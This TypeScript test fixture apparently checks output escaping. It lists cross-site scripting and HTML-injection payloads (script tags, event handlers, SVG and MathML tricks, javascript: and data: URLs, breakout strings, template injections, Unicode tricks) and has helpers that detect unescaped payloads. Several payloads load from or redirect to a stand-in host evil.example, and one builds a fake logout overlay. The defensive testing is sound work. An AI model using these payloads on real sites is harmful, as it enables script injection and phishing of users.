// Payloads of an attacker. Each calls `pwned()` or leads elsewhere when it is taken for anything but text.

const elements = [
  '<script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="pwned()" ',
  '<img src=https://evil.example/pixel.gif>',
  '<body onload=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<video><source onerror=pwned()></video>',
  '<marquee onstart=pwned()>x</marquee>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src=javascript:parent.pwned()></iframe>',
  '<object data=javascript:pwned()></object>',
  '<embed src=//evil.example/x.swf>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button>Entrar</button></form>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<a href="javascript:pwned()">acá</a>',
  '<div style="position:fixed;inset:0;background:#fff">Sesión cerrada</div>',
  '<template shadowrootmode=open><script>pwned()</script></template>',
];

const svg = [
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><script href="data:text/javascript,pwned()"/></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>',
  '<svg><use href="//evil.example/x.svg#x"/></svg>',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
];

/** These count where they stand at the beginning of a value. */
const addresses = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()//',
  'java\tscript:pwned()',
  '\u0001javascript:pwned()',
  ' javascript:pwned()',
  'data:text/html,<script>opener.pwned()</script>',
  'vbscript:pwned()',
  'blob:null/pwned()',
  '//evil.example/x',
  '/\\evil.example/x',
  'https://evil.example/x',
];

const breaks = [
  '"><script>pwned()</script>',
  "'><img src=x onerror=pwned()>",
  '" autofocus onfocus="pwned()',
  "' onmouseover='pwned()",
  '` onclick=`pwned()',
  '--><script>pwned()</script><!--',
  ']]><script>pwned()</script>',
  '</title></textarea></style><script>pwned()</script>',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '&lt;script&gt;pwned()&lt;/script&gt;&#60;img src=x onerror=pwned()&#62;',
];

const templates = [
  '<0>acá</0><1/>',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '#{pwned()}<%= pwned() %>',
];

const letters = [
  '\u202egpj.exe\u202c \u2066<b>\u2069 \u200f',
  '＜script＞pwned()＜/script＞ ‹script›',
  '\ud800<script>pwned()</script>\udc00',
  'a\u0000<scr\u0000ipt>pwned()</scr\u0000ipt>\ufeff\u200b',
];

export const PAYLOADS: readonly string[] = [
  ...elements,
  ...svg,
  ...addresses,
  ...breaks,
  ...templates,
  ...letters,
];

/** The number of the text that holds them all. */
export const ALL = PAYLOADS.length;
/** Those that have to be met on their own, too. */
export const FIRST_IN_VALUE: readonly number[] = addresses.map((text) => PAYLOADS.indexOf(text));

const MARK = /◆([\w.-]+)#(\d+)◆/g;

export function payloadAt(index: number): string {
  return PAYLOADS[index] ?? PAYLOADS.join(' ');
}

/** A payload, with a mark behind it of the field it was put into. */
export function hostile(field: string, index: number): string {
  return `${payloadAt(index)}◆${field}#${index}◆`;
}

/** The same as a database keeps it: there are no halves of letters in it, and no NUL. */
export function storable(text: string): string {
  return text.toWellFormed().replaceAll('\0', '');
}

/** The fields whose marks are in a text, and what stands before a mark and is not the payload as it was written. */
export function readMarks(text: string): { fields: Set<string>; altered: string[] } {
  const fields = new Set<string>();
  const altered: string[] = [];
  const read = normal(text);
  for (const { 0: mark, 1: field = '', 2: index, index: at } of read.matchAll(MARK)) {
    fields.add(field);
    const before = read.slice(0, at);
    if (!formsOf(payloadAt(Number(index))).some((form) => before.endsWith(form)))
      altered.push(`${mark} after ${before.slice(-80)}`);
  }
  return { fields, altered };
}

/** Titles hold no two blanks and no control characters, and no text that leaves a browser has halves of letters. */
function normal(text: string): string {
  return text.toWellFormed().replace(/[\s\p{Cc}]+/gu, ' ');
}

/** Returns a payload as plain text, as JSON shows it, and as JSON within JSON. */
function formsOf(payload: string): string[] {
  const quoted = (text: string) => JSON.stringify(text).slice(1, -1);
  return [payload, storable(payload)]
    .flatMap((text) => [text, quoted(text), quoted(quoted(text))])
    .map((text) => normal(text).trimStart());
}
